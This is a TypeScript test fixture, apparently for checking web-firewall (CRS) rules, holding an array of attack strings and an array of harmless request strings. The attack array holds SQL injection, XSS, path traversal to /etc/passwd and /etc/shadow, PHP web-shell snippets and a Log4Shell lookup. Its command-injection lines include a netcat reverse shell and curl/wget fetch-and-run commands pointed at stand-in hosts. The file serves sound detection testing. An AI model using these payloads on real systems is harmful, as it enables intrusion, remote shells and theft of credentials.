// Request-like strings for the CRS differential test and the benchmark: attacks the CRS rule
// families target, and ordinary traffic that must not trip them.

export const ATTACKS: string[] = [
  // SQL injection
  "' OR 1=1--", "1' or '1'='1", "admin'--", "1 UNION SELECT username, password FROM users", "1; DROP TABLE users",
  "1 AND SLEEP(5)", "benchmark(1000000,md5(1))", "' and 1=1 having 1=1--", "1' waitfor delay '0:0:5'--",
  "select * from information_schema.tables", "' union all select null,null,@@version#", "1 or 1 like 1",
  "\"; exec xp_cmdshell('dir')--", "1)) or ((1=1", "id=1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
  "' OR 'a'='a", "1 div 0", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 group by 1 having 1=1",
  "CONCAT(0x3a,user(),0x3a)", "load_file('/etc/passwd')", "pg_sleep(10)", "1;select pg_sleep(5)",
  // XSS
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
  "<svg/onload=alert(1)>", "<iframe src=\"http://evil\"></iframe>", "\"><script>alert('x')</script>",
  "<a href=\"vbscript:msgbox(1)\">x</a>", "&#106;avascript:alert(1)", "<body onload=alert(1)>",
  "<style>@import'http://x/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
  "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "expression(alert(1))",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<x onmouseover=alert`1`>",
  // LFI / RFI
  "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/proc/self/environ", "C:\\boot.ini",
  "....//....//etc/shadow", "http://1.2.3.4/shell.txt?", "file:///etc/passwd", "include=http://evil.example/x.php??",
  // RCE
  "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(whoami)", "`id`", "& ping -n 10 127.0.0.1",
  ";wget http://x/sh -O /tmp/sh", "|| curl http://evil/x | bash", "system('ls -la')", "() { :;}; /bin/bash -c id",
  "powershell -enc SQBFAFgA", "cmd.exe /c dir", "; /usr/bin/id", "${IFS}cat${IFS}/etc/passwd",
  // PHP
  "<?php system($_GET['c']); ?>", "php://input", "base64_decode('ZXZhbA==')", "eval($_POST['x'])",
  "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "phpinfo()", "assert($_REQUEST[x])", "$_SERVER['HTTP_HOST']",
  "<?= `ls` ?>", "file_put_contents('x.php','<?php')", "allow_url_include=On",
  // Java / Node
  "${jndi:ldap://evil/a}", "java.lang.Runtime.getRuntime().exec(\"id\")", "class.module.classLoader.URLs[0]=0",
  "require('child_process').exec('id')", "process.mainModule.require('fs')", "<java.beans.XMLDecoder>",
  "__proto__[isAdmin]=true", "constructor.prototype.polluted=1",
  // Session fixation, protocol
  ";jsessionid=ABCDEF0123", "document.cookie=\"sessionid=x\"", "GET / HTTP/1.1", "GET /index.php?a=1 HTTP/1.0",
  "x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil", "multipart/form-data; boundary=----x",
  "text/html; charset=utf-7", "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-", "TRACE / HTTP/1.1",
  // Data leakage (response rules)
  "You have an error in your SQL syntax; check the manual", "ORA-01756: quoted string not properly terminated",
  "Warning: mysql_fetch_array() expects parameter 1", "<title>Index of /admin</title>",
  "java.lang.NullPointerException at com.example.Foo", "Microsoft OLE DB Provider for ODBC Drivers error",
  "PostgreSQL query failed: ERROR: syntax error", "Fatal error: Uncaught Exception in /var/www/x.php on line 3",
  "<b>Warning</b>: include(x.php): failed to open stream", "Server Error in '/' Application.",
  "Microsoft VBScript runtime error '800a000d'", "<?xml version=\"1.0\"?>", "<?php echo 1; ?>",
  "&auml;&ouml;; '\"=", "text/html; charset=\"utf-8\"; x=y",
];

export const BENIGN: string[] = [
  "hello world", "/api/v1/users?id=42&sort=asc", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
  "application/json", "The quick brown fox jumps over the lazy dog", "{\"name\":\"Alice\",\"age\":30,\"tags\":[\"a\",\"b\"]}",
  "en-US,en;q=0.9,de;q=0.8", "alice@example.com", "2026-11-23T08:44:02Z", "550e8400-e29b-41d4-a716-446655440000",
  "gzip, deflate, br", "max-age=3600, public", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  "q=how+to+select+a+good+table", "Please order 2 tables and 3 chairs", "/static/js/app.min.js?v=1.2.3",
  "keep-alive", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc", "https://www.example.com/path/to/page.html",
  "name=John+Smith&city=New+York&zip=10001", "", "a", "1234567890", "O'Brien", "rock & roll",
];
